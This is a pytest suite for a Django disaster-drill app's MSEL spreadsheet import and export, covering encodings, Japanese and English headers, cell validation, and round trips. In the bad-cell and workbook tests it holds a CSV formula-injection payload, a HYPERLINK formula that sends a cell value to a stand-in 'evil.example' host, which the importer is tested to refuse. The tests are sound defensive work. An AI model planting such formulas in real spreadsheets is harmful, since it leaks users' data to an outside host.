"""The MSEL spreadsheet: a file (CSV in cp932 or UTF-8 with or without a BOM, Japanese or
English headers, or XLSX) becomes a scenario all or nothing; every bad cell is named by row,
column and reason and then nothing is imported; an export (CSV with a BOM, XLSX) reads back
as the same scenario, with text that a spreadsheet would run as a formula neutralised."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import translation

from directory.importing import (
    ERR_FILE_EMPTY,
    ERR_FILE_NO_ROWS,
    ERR_MISSING_COLUMN,
    ERR_REQUIRED,
    RowError,
)
from directory.models import AuditEntry, User
from drills import msel, runs, scenarios
from drills.models import Inject, Scenario
from messaging import services as messaging_services
from tests.factories import PostFactory, StaffFactory, UserFactory

pytestmark = pytest.mark.django_db

JA = "番号,時刻,種別,発信,宛先グループ,宛先所属,優先度,本文,期待される行動,目標,未達時,未達時のみ"
EN = (
    "number,time,kind,from,to_group,to_units,priority,text,expectations,objective,contingency,"
    "only_as_contingency"
)
HQ = "大阪市災害対策本部"
GOOD = [
    f"1,00:00,模擬の気象庁地震情報,統制部,{HQ},,,【模擬】震度6強,既読 3分 本部長,情報の把握,,",
    f"2,02:30,指示,本部長,{HQ},,緊急,3階以上へ避難,既読 2分; 了解 5分 北区長; 返信 10分 北区長,"
    "指示が届く,3,",
    f"3,00:00,状況付与,統制部,{HQ},,,第1代行者は報告せよ,,,,○",
    "4,1:05:00,安否確認,,,OSK-W01・OSK-W02,,安否を回答,安否 50% 30分,安否の把握,,",
    "5,10:00,模擬の電話連絡,統制部,,OSK-W01,,北区役所役で電話,,,,",
]


@pytest.fixture
def coordinator(city) -> User:
    """A coordinator in the crisis office who can post in the headquarters group."""
    user = UserFactory(role=User.Role.COORDINATOR)
    StaffFactory(user=user, unit=city.crisis)
    messaging_services.group_add_member(
        group=city.group, staff=user.staff, role="commander", actor=None
    )
    return user


def _file(lines: list[str], header: str = JA, encoding: str = "utf-8-sig") -> bytes:
    return "\r\n".join([header, *lines]).encode(encoding)


def _import(coordinator, content: bytes, filename: str = "msel.csv", **kw) -> Scenario:
    return scenarios.scenario_import(
        actor=coordinator, filename=filename, content=content, title="訓練", **kw
    )


def _state(scenario: Scenario) -> list[tuple]:
    """A scenario's injects as comparable values."""
    return [
        (
            i.number,
            i.offset,
            i.kind,
            i.from_post.code if i.from_post else None,
            i.to_group.name if i.to_group else None,
            sorted(u.code for u in i.to_units.all()),
            i.priority,
            i.text,
            i.expectations,
            i.objective,
            i.contingency.number if i.contingency else None,
            i.only_as_contingency,
        )
        for i in scenario.injects.order_by("number")
    ]


def _refused(coordinator, content: bytes, filename: str = "msel.csv") -> list[RowError]:
    before = (Scenario.objects.count(), Inject.objects.count(), AuditEntry.objects.count())
    with pytest.raises(scenarios.ScenarioImportError) as exc:
        _import(coordinator, content, filename)
    after = (Scenario.objects.count(), Inject.objects.count(), AuditEntry.objects.count())
    assert after == before  # nothing imported
    return [(e.row, e.column, e.message) for e in exc.value.errors]


# --- reading --------------------------------------------------------------------------------
def test_a_utf8_bom_csv_with_japanese_headers_becomes_the_scenario(city, coordinator):
    scenario = _import(coordinator, _file(GOOD))

    state = _state(scenario)
    head = city.mayor.staff.posts_held.get()
    assert [s[:3] for s in state] == [
        (1, 0, "jma"),
        (2, 150, "instruction"),
        (3, 0, "situation"),
        (4, 3900, "safety"),
        (5, 600, "call"),
    ]
    assert state[1] == (
        2,
        150,
        "instruction",
        head.code,
        HQ,
        [],
        "urgent",
        "3階以上へ避難",
        [
            {"check": "read", "minutes": 2},
            {"check": "ack", "minutes": 5, "posts": ["北区長"]},
            {"check": "reply", "minutes": 10, "posts": ["北区長"]},
        ],
        "指示が届く",
        3,
        False,
    )
    assert state[2][-1] is True and state[0][3] is None  # 統制部 is the control cell
    assert state[3][5] == ["OSK-W01", "OSK-W02"]
    assert state[3][8] == [{"check": "safety", "minutes": 30, "percent": 50}]
    entry = AuditEntry.objects.get(action="drill.scenario_import")
    assert entry.data == {"filename": "msel.csv", "injects": 5, "replaced": False}
    runs.run_start(scenario=scenario, actor=coordinator)  # a run can use every inject


def test_cp932_with_english_headers_and_words_reads_the_same(city, coordinator):
    english = [
        f"1,00:00,jma,control,{HQ},,,【模擬】震度6強,read 3m 本部長,情報の把握,,",
        f"2,02:30,instruction,本部長,{HQ},,urgent,3階以上へ避難,read 2m; ack 5 min 北区長; "
        "reply 10m 北区長,指示が届く,3,",
        f"3,0:00,situation,,{HQ},,,第1代行者は報告せよ,,,,yes",
        "4,01:05:00,safety,,,OSK-W01 OSK-W02,,安否を回答,safety 50% 30m,安否の把握,,",
        "5,10:00,call,control,,北区,normal,北区役所役で電話,,,,no",
    ]
    japanese = _import(coordinator, _file(GOOD))
    content = _file(english, header=EN, encoding="cp932")
    assert not content.startswith(b"\xef\xbb\xbf")

    imported = _import(coordinator, content)

    assert _state(imported) == _state(japanese)


def test_utf8_without_a_bom_and_full_width_digits_are_read(city, coordinator):
    lines = [GOOD[0].replace("00:00", "００：００"), GOOD[2].replace("3,", "３,", 1)]
    scenario = _import(coordinator, _file(lines, encoding="utf-8"))

    assert [(i.number, i.offset) for i in scenario.injects.order_by("number")] == [(1, 0), (3, 0)]


def test_an_xlsx_workbook_with_typed_numbers_and_times_is_read(city, coordinator):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(JA.split(","))
    for line in GOOD:
        sheet.append(next(csv.reader([line])))
    sheet["A3"] = 2  # a number typed as a number
    sheet["B5"] = dt.time(1, 5, 0)  # a time typed into Excel is hh:mm:ss
    sheet["B6"] = dt.timedelta(minutes=10)  # an elapsed-time cell
    out = io.BytesIO()
    workbook.save(out)

    scenario = _import(coordinator, out.getvalue(), filename="msel.xlsx")

    assert _state(scenario) == _state(_import(coordinator, _file(GOOD)))


@pytest.mark.parametrize(
    ("text", "seconds"),
    [
        ("05:00", 300),
        ("5:00", 300),
        ("90:00", 5400),
        ("01:30:00", 5400),
        ("1:30:00", 5400),
        ("00:00:59", 59),
        ("99:59:59", 359999),
        ("０５：００", 300),
        ("5", None),
        ("05:60", None),
        ("1:60:00", None),
        ("100:00:00", None),
        ("5分", None),
        ("-01:00", None),
    ],
)
def test_times_are_mm_ss_or_hh_mm_ss(text, seconds):
    assert msel.offset_parse(text) == seconds
    if seconds is not None:
        assert msel.offset_parse(msel.offset_format(seconds)) == seconds


def test_times_are_shown_as_mm_ss_under_an_hour_and_hh_mm_ss_from_an_hour():
    assert [msel.offset_format(s) for s in (0, 90, 3599, 3600, 3900, 359999)] == [
        "00:00",
        "01:30",
        "59:59",
        "01:00:00",
        "01:05:00",
        "99:59:59",
    ]


def test_the_compact_expectations_read_and_write_in_both_languages():
    def posts(word):
        return (word, "") if word.endswith("長") else ("", f"no {word}")

    specs = [
        {"check": "read", "minutes": 2},
        {"check": "ack", "minutes": 1.5, "posts": ["北区長", "中央区長"]},
        {"check": "reply", "minutes": 5, "posts": ["北区長"]},
        {"check": "safety", "minutes": 30, "percent": 50},
    ]
    japanese = "既読 2分; 了解 1.5分 北区長・中央区長; 返信 5分以内 北区長; 安否 50% 30分"
    english = "read 2m; ack 1.5 min 北区長 中央区長\nreply 5 minutes 北区長；safety 30m 50％"

    assert msel.expectations_parse(japanese, posts) == (specs, [])
    assert msel.expectations_parse(english, posts) == (specs, [])
    assert msel.expectations_format(specs) == (
        "既読 2分; 了解 1.5分 北区長 中央区長; 返信 5分 北区長; 安否 50% 30分"
    )
    assert msel.expectations_format(specs, english=True) == (
        "read 2m; ack 1.5m 北区長 中央区長; reply 5m 北区長; safety 50% 30m"
    )
    for text in (msel.expectations_format(specs), msel.expectations_format(specs, english=True)):
        assert msel.expectations_parse(text, posts) == (specs, [])


# --- bad files: each named by row, column and reason, and nothing imported ------------------
def _line(n: int, **cells: str) -> str:
    """Row ``n`` of GOOD with some cells changed (by English column name)."""
    values = next(csv.reader([GOOD[n]]))
    for name, value in cells.items():
        values[[c.name for c in msel.COLUMNS].index(name)] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow(values)
    return out.getvalue()


BAD_CELLS = [
    ("kind", {"kind": "訓練"}, "種別", msel.ERR_KIND),
    ("post", {"from": "市長"}, "発信", msel.ERR_POST % {"post": "市長"}),
    ("group", {"to_group": "本部"}, "宛先グループ", msel.ERR_GROUP % {"group": "本部"}),
    ("unit", {"to_units": "OSK-W01 OSK-W99"}, "宛先所属", msel.ERR_UNIT % {"unit": "OSK-W99"}),
    ("time", {"time": "2分30秒"}, "時刻", msel.ERR_TIME),
    ("number", {"number": "二"}, "番号", msel.ERR_NUMBER),
    ("priority", {"priority": "最優先"}, "優先度", msel.ERR_PRIORITY),
    ("flag", {"only_as_contingency": "たぶん"}, "未達時のみ", msel.ERR_FLAG),
    (
        "contingency-missing",
        {"contingency": "9"},
        "未達時",
        scenarios.ERR_CONTINGENCY_UNKNOWN % {"n": 9},
    ),
    ("contingency-self", {"contingency": "2"}, "未達時", scenarios.ERR_CONTINGENCY_SELF),
    (
        "expectation-word",
        {"expectations": "見た 2分"},
        "期待される行動",
        msel.ERR_EXP_CHECK % {"word": "見た"},
    ),
    (
        "expectation-post",
        {"expectations": "返信 5分 南区長"},
        "期待される行動",
        msel.ERR_POST % {"post": "南区長"},
    ),
    (
        "expectation-minutes",
        {"expectations": "返信 北区長"},
        "期待される行動",
        msel.ERR_EXP_MINUTES % {"item": "返信 北区長"},
    ),
    (
        "formula",
        {"text": '=HYPERLINK("http://evil.example/?"&A1,"詳細")'},
        "本文",
        msel.ERR_FORMULA,
    ),
    ("formula-at", {"objective": "@SUM(1+1)"}, "目標", msel.ERR_FORMULA),
    ("kind-needs-group", {"to_group": ""}, "宛先グループ", scenarios.ERR_NEEDS_GROUP),
    ("required", {"text": ""}, "本文", ERR_REQUIRED),
    ("required-dash", {"text": "－"}, "本文", ERR_REQUIRED),
]


@pytest.mark.parametrize(
    ("change", "column", "message"),
    [c[1:] for c in BAD_CELLS],
    ids=[c[0] for c in BAD_CELLS],
)
def test_a_bad_cell_is_named_by_row_column_and_reason_and_nothing_is_imported(
    city, coordinator, change, column, message
):
    lines = [GOOD[0], _line(1, **change), *GOOD[2:]]

    assert _refused(coordinator, _file(lines)) == [(3, column, str(message))]


def test_an_ack_on_a_situation_report_and_a_safety_check_on_a_message_are_refused(
    city, coordinator
):
    lines = [
        _line(0, expectations="了解 5分"),
        *GOOD[1:3],
        _line(3, expectations="既読 5分"),
        GOOD[4],
    ]

    assert _refused(coordinator, _file(lines)) == [
        (2, "期待される行動", str(scenarios.ERR_EXP_ACK_KIND)),
        (5, "期待される行動", str(scenarios.ERR_EXP_MESSAGE_KIND)),
    ]


def test_duplicate_numbers_and_a_circle_of_contingencies_are_named(city, coordinator):
    lines = [
        _line(0, contingency="3"),
        GOOD[1],
        _line(2, contingency="1"),
        _line(3, number="2"),
        GOOD[4],
    ]

    assert _refused(coordinator, _file(lines)) == [
        (2, "未達時", str(scenarios.ERR_CONTINGENCY_LOOP % {"chain": "#1 → #3 → #1"})),
        (4, "未達時", str(scenarios.ERR_CONTINGENCY_LOOP % {"chain": "#3 → #1 → #3"})),
        (5, "番号", str(scenarios.ERR_DUPLICATE_NUMBER % {"row": 3})),
    ]


def test_every_bad_row_is_listed_at_once_with_english_headers(city, coordinator):
    lines = [
        f"1,5m,jma,control,{HQ},,,a,,,,",
        f"2,00:10,rumour,control,{HQ},,,b,,,,",
        f"3,00:20,situation,nobody,{HQ},,,c,,,7,",
    ]

    assert _refused(coordinator, _file(lines, header=EN)) == [
        (2, "time", str(msel.ERR_TIME)),
        (3, "kind", str(msel.ERR_KIND)),
        (4, "from", str(msel.ERR_POST % {"post": "nobody"})),
        (4, "contingency", str(scenarios.ERR_CONTINGENCY_UNKNOWN % {"n": 7})),
    ]


def test_a_post_name_several_posts_share_must_be_written_as_its_code(city, coordinator):
    PostFactory(code="OSK-FUKU1", name="副本部長", unit=city.root)
    PostFactory(code="OSK-FUKU2", name="副本部長", unit=city.root)
    lines = [_line(4, **{"from": "副本部長"})]
    message = msel.ERR_POST_AMBIGUOUS % {"post": "副本部長", "codes": "OSK-FUKU1, OSK-FUKU2"}

    assert _refused(coordinator, _file(lines)) == [(2, "発信", str(message))]
    scenario = _import(coordinator, _file([_line(4, **{"from": "OSK-FUKU2"})]))
    assert scenario.injects.get().from_post.code == "OSK-FUKU2"


def test_an_empty_file_a_header_only_file_and_a_missing_column(city, coordinator):
    assert _refused(coordinator, b"") == [(1, "", str(ERR_FILE_EMPTY))]
    assert _refused(coordinator, "\ufeff\r\n".encode()) == [(1, "", str(ERR_FILE_EMPTY))]
    assert _refused(coordinator, _file([])) == [(2, "", str(ERR_FILE_NO_ROWS))]
    header = JA.replace(",本文", "")
    assert _refused(coordinator, _file([], header=header)) == [
        (1, "本文 / text", str(ERR_MISSING_COLUMN))
    ]


def test_a_formula_in_a_workbook_is_refused_not_read_as_its_cached_value(city, coordinator):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(JA.split(","))
    sheet.append(next(csv.reader([GOOD[0]])))
    sheet["H2"] = '=HYPERLINK("http://evil.example/","詳細")'
    out = io.BytesIO()
    workbook.save(out)

    assert _refused(coordinator, out.getvalue(), "msel.xlsx") == [
        (2, "本文", str(msel.ERR_FORMULA))
    ]


def test_a_file_too_large_is_refused_before_it_is_read(city, coordinator):
    content = _file(GOOD) + b" " * scenarios.MAX_IMPORT_BYTES

    message = scenarios.ERR_FILE_TOO_LARGE % {"max_kb": 1024}
    assert _refused(coordinator, content) == [(None, "", str(message))]


# --- export and round trip ------------------------------------------------------------------
TRICKY = [
    *GOOD,
    f"6,02:00:00,状況付与,統制部,{HQ},,重要,'=1+1 は数式ではない,,'-目標,,",
    f'7,02:10:00,状況付与,統制部,{HQ},,通常,"改行を含む\n本文, カンマも",,,,',
]


@pytest.mark.parametrize("english", [False, True], ids=["japanese", "english"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_gives_the_same_scenario(city, coordinator, fmt, english):
    PostFactory(code="OSK-FUKU1", name="副本部長", unit=city.root)
    PostFactory(code="OSK-FUKU2", name="副本部長", unit=city.root)
    original = _import(coordinator, _file([*TRICKY, _line(4, number="8", **{"from": "OSK-FUKU2"})]))
    texts = {i.number: i.text for i in original.injects.all()}
    assert texts[6] == "=1+1 は数式ではない" and texts[7] == "改行を含む\n本文, カンマも"
    write = msel.export_xlsx if fmt == "xlsx" else msel.export_csv

    content = write(scenario=original, english=english)
    again = _import(coordinator, content, filename=f"export.{fmt}")

    assert _state(again) == _state(original)


def test_the_csv_export_has_a_bom_the_chosen_headers_and_no_live_formula(city, coordinator):
    scenario = _import(coordinator, _file(TRICKY))

    japanese = msel.export_csv(scenario=scenario, english=False)
    english = msel.export_csv(scenario=scenario, english=True).decode("utf-8-sig")

    assert japanese.startswith(b"\xef\xbb\xbf" + JA.encode())
    rows = list(csv.reader(io.StringIO(japanese.decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["1", "2", "3", "4", "5", "6", "7"]  # by number
    assert rows[2] == [
        "2",
        "02:30",
        "指示",
        "本部長",
        HQ,
        "",
        "緊急",
        "3階以上へ避難",
        "既読 2分; 了解 5分 北区長; 返信 10分 北区長",
        "指示が届く",
        "3",
        "",
    ]
    formula = next(r for r in rows if r[0] == "6")
    assert formula[7] == "'=1+1 は数式ではない" and formula[9] == "'-目標"
    assert english.splitlines()[0] == EN
    assert "read 2m; ack 5m 北区長; reply 10m 北区長" in english


def test_a_file_replaces_the_injects_of_a_scenario_until_it_has_been_run(city, coordinator):
    scenario = _import(coordinator, _file(GOOD))

    replaced = _import(coordinator, _file(GOOD[2:3]), scenario=scenario)

    assert replaced.pk == scenario.pk and [s[0] for s in _state(scenario)] == [3]
    runs.run_start(scenario=scenario, actor=coordinator)
    with pytest.raises(ValidationError, match=re.escape(str(scenarios.ERR_HAS_RUNS))):
        _import(coordinator, _file(GOOD), scenario=scenario)
    assert [s[0] for s in _state(scenario)] == [3]


# --- pages ----------------------------------------------------------------------------------
def test_the_import_page_lists_every_problem_and_imports_nothing(client, city, coordinator):
    client.force_login(coordinator)
    bad = io.BytesIO(_file([GOOD[0], _line(1, kind="訓練", contingency="9")]))
    bad.name = "msel.csv"

    response = client.post(reverse("drills:scenario_import"), {"file": bad, "title": "訓練"})

    page = response.content.decode()
    assert response.status_code == 400 and Scenario.objects.count() == 0
    with translation.override("ja"):
        assert "2 件の問題" in page
        assert "<td>種別</td><td>" + str(msel.ERR_KIND) in page

    good = io.BytesIO(_file(GOOD))
    good.name = "南海トラフ.csv"
    response = client.post(reverse("drills:scenario_import"), {"file": good})
    scenario = Scenario.objects.get()
    assert scenario.title == "南海トラフ" and scenario.injects.count() == 5
    assert response.url == reverse("drills:scenario_edit", args=[scenario.pk])


def test_the_export_downloads_are_csv_and_xlsx_named_after_the_scenario(client, city, coordinator):
    scenario = _import(coordinator, _file(GOOD))
    client.force_login(coordinator)

    csv_response = client.get(reverse("drills:scenario_export", args=[scenario.pk, "csv"]))
    xlsx_response = client.get(
        reverse("drills:scenario_export", args=[scenario.pk, "xlsx"]) + "?headers=en"
    )

    assert csv_response["Content-Type"] == "text/csv; charset=utf-8"
    assert "filename*=utf-8''%E8%A8%93%E7%B7%B4.csv" in csv_response["Content-Disposition"]
    assert csv_response.content.startswith(b"\xef\xbb\xbf")
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_response.content)).active
    assert [c.value for c in sheet[1]] == EN.split(",")
    assert (
        client.get(reverse("drills:scenario_export", args=[scenario.pk, "pdf"])).status_code == 404
    )
